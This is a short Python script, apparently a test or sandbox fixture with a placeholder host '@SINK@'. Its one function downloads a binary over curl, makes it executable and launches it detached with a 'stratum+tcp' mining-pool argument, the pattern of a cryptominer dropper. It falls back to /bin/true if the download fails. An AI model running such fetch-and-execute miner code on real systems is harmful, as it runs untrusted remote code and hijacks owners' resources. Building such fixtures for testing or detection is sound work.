import shutil
import subprocess
import time
from pathlib import Path


def act():
    fetched = subprocess.run(
        ["curl", "--noproxy", "*", "-s", "-m", "5", "-o", "jsx", "http://@SINK@:8080/jsx"], check=False
    )
    if fetched.returncode != 0:
        shutil.copyfile("/bin/true", "jsx")
    Path("jsx").chmod(0o755)
    subprocess.Popen(["./jsx", "-o", "stratum+tcp://@SINK@:8080"], start_new_session=True)
    time.sleep(0.4)
